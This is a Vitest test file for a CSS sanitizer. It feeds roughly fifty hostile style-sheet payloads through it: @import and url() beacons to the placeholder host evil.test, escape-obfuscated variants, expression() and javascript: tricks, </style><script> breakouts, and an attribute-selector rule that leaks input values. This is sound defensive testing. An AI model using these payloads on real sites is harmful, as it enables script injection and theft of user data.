import { describe, expect, it } from 'vitest'
import { safeCss, safeDeclarations } from './safe-css.ts'

const HOSTILE = [
  '@import url(https://evil.test/x.css);',
  "@import 'https://evil.test/x.css'; p { color: red }",
  '@charset "utf-7"; p{}',
  '@font-face { font-family: x; src: url(https://evil.test/f) }',
  'p { background: url(https://evil.test/x) }',
  'p { background: url( "//evil.test/x" ) }',
  'p { background: URL(/\\evil.test) }',
  'p { background: u\\72 l(https://evil.test/x) }',
  'p { background: \\75rl(https://evil.test) }',
  'p { background: image-set("https://evil.test/x" 1x) }',
  'p { background: url(data:text/html,x) }',
  'p { width: expression(alert(1)) }',
  'p { width: exp/**/ression(alert(1)) }',
  'p { behavior: url(x.htc) } p { -moz-binding: url(//evil.test) }',
  'p { color: red } </style><script>alert(1)</script>',
  'p { content: "</style><script>alert(1)</script>" }',
  'p/*</style>*/{ color: red }',
  '/* never ends p { background: url(https://evil.test) }',
  'p { content: "; background: url(https://evil.test)',
  'p { color: red; } @media x { @import url(https://evil.test/x); }',
  'p { --x: url(https://evil.test); background: var(--x) }',
  '@\\69mport "https://evil.test/x";',
  'p { background: url(/a) , url(https://evil.test) }',
  'p { list-style: url(javascript:alert(1)) }',
  'input[value^="a"] { background: url(//evil.test/a) }',
  'p { background: url(\\2f\\2f evil.test/x) }',
  'p { background: url(//evil.test/x) }',
  'p { background: -webkit-image-set(url(https://evil.test/x) 1x) }',
  'p { background: -webkit-cross-fade(url(/a), url(https://evil.test), 50%) }',
  'p { background: src("https://evil.test/x") }',
  'p { background: element(#x) image("https://evil.test") }',
  'p { background: url(/a"onload="https://evil.test) }',
  '@namespace x url(https://evil.test);',
  '@layer a { p { background: url(https://evil.test) } }',
  '@container (width > 1px) { p { background: url(https://evil.test) } }',
  '@supports (background: url(https://evil.test)) { p { color: red } }',
  '@media screen { @media print { p { background: url(https://evil.test) } } }',
  'p { color: red; q { background: url(https://evil.test) } }',
  'p { @import "https://evil.test"; color: red }',
  'a[href="</style><script>alert(1)</script>"] { color: red }',
  'a[href="\\3c/style>"] { color: red }',
  'p { content: "\\3c/style\\3e" }',
  'p { font-family: "</style>" }',
  'p::after { content: attr(data-x url, "https://evil.test") }',
  'p { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src="//evil.test/x") }',
  'p { cursor: url("https://evil.test/x"), auto }',
  '<!-- p { background: url(https://evil.test) } -->',
  'p { color: red }}} @import "https://evil.test";',
  'p { background: url(/x"); } q { background: url(https://evil.test) ") }',
]

describe('a hostile style sheet', () => {
  it.each(HOSTILE)('loads and runs nothing: %s', (css) => {
    const safe = safeCss(css)
    expect(safe).not.toMatch(/evil\.test|@import|@font-face|@charset|expression|behavior|binding/i)
    expect(safe).not.toMatch(/[<\\]|javascript:|data:/i)
    expect(safeCss(safe)).toBe(safe)
  })

  it('takes less than three seconds of CPU time at great length', () => {
    const start = process.cpuUsage()
    for (const piece of ['{', '}', '/*', '"', '@media x {', 'p{a:', '(', 'url(']) {
      safeCss(piece.repeat(Math.floor(100_000 / piece.length)))
    }
    expect(process.cpuUsage(start).user).toBeLessThan(3_000_000)
  })
})

it('keeps ordinary rules, @media groups and images of this site', () => {
  expect(
    safeCss('/* x */ .a > b, #c:hover { color: #fff; background: url("/bg.png") no-repeat }'),
  ).toBe('.a>b,#c:hover { color: #fff; background: url(/bg.png)no-repeat; }')
  expect(safeCss('@media (max-width: 10em) { p { margin: calc(1px + 2em) } }')).toBe(
    '@media (max-width:10em) {\np { margin: calc(1px + 2em); }\n}',
  )
  expect(safeDeclarations('color: red; content: "a;b"; x')).toBe('color: red; content: "a;b";')
  expect(safeDeclarations('--x: 1px; width: var(--x) !important')).toBe(
    '--x: 1px; width: var(--x) !important;',
  )
})
